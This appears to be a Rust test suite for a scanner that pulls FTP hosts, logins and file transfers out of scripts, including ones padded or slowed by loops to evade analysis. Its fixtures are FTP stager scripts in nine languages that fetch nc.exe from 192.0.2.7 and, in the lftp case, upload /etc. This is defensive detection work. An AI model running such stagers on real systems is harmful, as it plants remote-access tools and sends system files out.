//! Texts that are padded to tire whoever reads them: what follows the padding is found all the same, or its loss is told.

use crate::support::scan_json;
use serde_json::Value;
use std::fs;

const BATCH: &str =
    "echo open 192.0.2.7>q.tmp\r\necho user bob pw1>>q.tmp\r\necho get nc.exe>>q.tmp\r\nftp -n -s:q.tmp\r\n";
const SHELL: &str = "cd /tmp\nHOST=192.0.2.7\nftp -n $HOST <<END\nuser bob pw1\nget nc\nbye\nEND\n";
const POWERSHELL: &str = "$x = @\"\r\nopen 192.0.2.7\r\nuser bob pw1\r\nget nc.exe\r\n\"@\r\n$x | Out-File C:\\q.txt -Encoding ascii\r\nftp -n -s:C:\\q.txt\r\n";
const BASIC: &str = "Set f=CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\q.txt\")\r\nf.WriteLine \"open 192.0.2.7\"\r\nf.WriteLine \"user bob pw1\"\r\nf.WriteLine \"get nc.exe\"\r\nf.Close\r\nCreateObject(\"WScript.Shell\").Run \"ftp -n -s:C:\\q.txt\"\r\n";
const JSCRIPT: &str = "var f=new ActiveXObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\\\q.txt\");\r\nf.WriteLine(\"open 192.0.2.7\");f.WriteLine(\"user bob pw1\");f.WriteLine(\"get nc.exe\");f.Close();\r\nnew ActiveXObject(\"WScript.Shell\").Run(\"ftp -n -s:C:\\\\q.txt\");\r\n";
const PYTHON: &str = "import ftplib\nf=ftplib.FTP('192.0.2.7')\nf.login('bob','pw1')\nf.retrbinary('RETR nc.exe',open('nc.exe','wb').write)\n";
const SCRIPT: &str = "open 192.0.2.7\r\nuser bob pw1\r\nget nc.exe\r\nbye\r\n";
const LFTP: &str = "open -u bob,pw1 ftp://192.0.2.7\nset ftp:ssl-allow no\nmirror -R /etc up\nget nc\nbye\n";
const WINSCP: &str = "option batch abort\r\nopen ftp://bob:pw1@192.0.2.7/\r\nget nc.exe c:\\temp\\\r\nexit\r\n";

/// The report of a text alone in a folder.
fn scan(name: &str, text: &str) -> Value {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join(name), text).unwrap();
    scan_json(folder.path(), &[]).1
}

/// Servers, logins and files that a report tells of, and whether the scan was whole.
fn told(report: &Value) -> (Vec<String>, bool) {
    let text = |value: &Value| value.as_str().unwrap_or("-").to_owned();
    let of_session = |session: &Value| {
        let login = &session["credentials"][0];
        let files: Vec<String> =
            session["transfers"].as_array().unwrap().iter().map(|transfer| text(&transfer["remote_path"])).collect();
        format!("{} {} {} {files:?}", text(&session["host"]), text(&login["username"]), text(&login["password"]))
    };
    let scripts = report["scripts"].as_array().unwrap();
    let sessions = scripts.iter().flat_map(|script| script["sessions"].as_array().into_iter().flatten());
    (sessions.map(of_session).collect(), report["scan"]["complete"] == true)
}

#[test]
fn lines_that_do_nothing_hide_nothing() {
    let cases: [(&str, &str, &[&str], &str); 9] = [
        ("a.bat", "", &["\r\n", "rem x\r\n", ":: x\r\n", "set x=1\r\n", "echo.\r\n", "if 1==2 echo x\r\n"], BATCH),
        ("a.sh", "#!/bin/sh\n", &["\n", "# x\n", "x=1\n", ":\n", "[ 1 = 2 ] && echo x\n"], SHELL),
        ("a.ps1", "", &["\r\n", "# x\r\n", "$y = 1\r\n", "<#\r\nx\r\n#>\r\n"], POWERSHELL),
        ("a.vbs", "", &["\r\n", "' x\r\n", "y = 1\r\n"], BASIC),
        ("a.js", "", &["\r\n", "// x\r\n", "var y = 1;\r\n"], JSCRIPT),
        ("a.py", "", &["\n", "# x\n", "y = 1\n"], PYTHON),
        ("a.txt", "", &["\r\n", "pwd\r\n", "! rem\r\n"], SCRIPT),
        ("a.lftp", "", &["\n", "# x\n"], LFTP),
        ("b.txt", "", &["\r\n", "; x\r\n", "# x\r\n"], WINSCP),
    ];
    for (name, head, padding, tail) in cases {
        let short = told(&scan(name, &format!("{head}{tail}")));
        assert!(short.0.iter().any(|session| session.starts_with("192.0.2.7 bob pw1 [\"")), "{name}: {short:?}");
        for line in padding {
            let padded = scan(name, &format!("{head}{}{tail}", line.repeat(25_000)));
            assert_eq!(told(&padded), short, "{name} behind {line:?}: {}", padded["errors"]);
        }
    }
}

#[test]
fn loops_that_burn_time_hide_nothing() {
    let cases = [
        ("a.bat", "for /l %%i in (1,1,10000) do for /l %%j in (1,1,10000) do @echo .>nul\r\n", BATCH),
        ("a.bat", "set /a n=0\r\n:again\r\nset /a n+=1\r\nif %n% LSS 100000 goto again\r\n", BATCH),
        (
            "a.sh",
            "#!/bin/sh\ni=0\nwhile [ $i -lt 100000 ]; do j=0; while [ $j -lt 9 ]; do j=$((j+1)); done; i=$((i+1)); done\n",
            SHELL,
        ),
        ("a.ps1", "for ($i=0; $i -lt 1000000; $i++) { foreach ($z in 1..900) { $y = $z } }\r\n", POWERSHELL),
        ("a.ps1", "1..1000000 | ForEach-Object { 1..900 | % { $_ } }\r\n", POWERSHELL),
        ("a.vbs", "For i = 1 To 1000000\r\nz = i\r\nNext\r\nDo While j < 1000000\r\nj = j + 1\r\nLoop\r\n", BASIC),
        ("a.js", "for (var i=0;i<1000000;i++) { z = i; }\r\nvar j=0; while (j<1000000) { j++; }\r\n", JSCRIPT),
    ];
    for (name, loops, tail) in cases {
        let short = told(&scan(name, tail)).0;
        let behind = scan(name, &format!("{loops}{tail}"));
        assert_eq!(told(&behind).0, short, "{name} behind {loops:?}: {}", behind["errors"]);
    }
}

#[test]
fn what_a_limit_cuts_off_is_told() {
    let cases: [(&str, &str, &[&str], &str); 3] = [
        ("a.bat", BATCH, &["--limit", "batch_output=10"], "what the emulation of one text may do"),
        ("a.txt", SCRIPT, &["--limit", "script_lines=2"], "lines of one script"),
        ("a.txt", SCRIPT, &["--limit", "line_bytes=10"], "bytes of one line"),
    ];
    for (name, text, limit, told) in cases {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join(name), text).unwrap();
        let (_, report) = scan_json(folder.path(), limit);
        let errors = report["errors"].as_array().unwrap();
        let message = |error: &Value| error["message"].as_str().unwrap_or_default().contains(told);
        assert!(errors.iter().any(|error| error["path"] == name && message(error)), "{limit:?}: {errors:?}");
        assert_eq!(report["scan"]["complete"], false, "{limit:?}");
    }
}

#[test]
fn more_than_a_report_holds_is_told() {
    let login = "open 192.0.2.7\r\nuser bob pw1\r\n";
    let cases = [
        ("a.txt", format!("{login}{}bye\r\n", "put a\r\n".repeat(10_100)), "transfers of one script"),
        ("a.txt", "open 192.0.2.7\r\nclose\r\n".repeat(1100), "sessions of one script"),
        ("a.bat", "ftp -n -s:C:\\a.txt\r\n".repeat(1100), "what the emulation of one text may do"),
        (
            "a.bat",
            format!("set a=x\r\n{}{BATCH}", "set a=%a%%a%\r\n".repeat(20)),
            "what the emulation of one text may do",
        ),
        ("a.py", format!("{}{PYTHON}", "y = 1\n".repeat(120_000)), "what the emulation of one text may do"),
    ];
    for (name, text, told) in cases {
        let report = scan(name, &text);
        let errors = report["errors"].as_array().unwrap();
        let is_told = errors.iter().any(|error| error["message"].as_str().unwrap_or_default().contains(told));
        assert!(is_told, "{name}, {}…: {errors:?}", &text[..20]);
        assert_eq!(report["scan"]["complete"], false, "{name}");
    }
}

#[test]
fn a_variable_that_grows_without_end_ends_nothing() {
    let growing = format!("set a=x\r\n{}", "set a=%a%%a%\r\n".repeat(40));
    assert_eq!(told(&scan("a.bat", &format!("{growing}{BATCH}"))).0, told(&scan("a.bat", BATCH)).0);
}
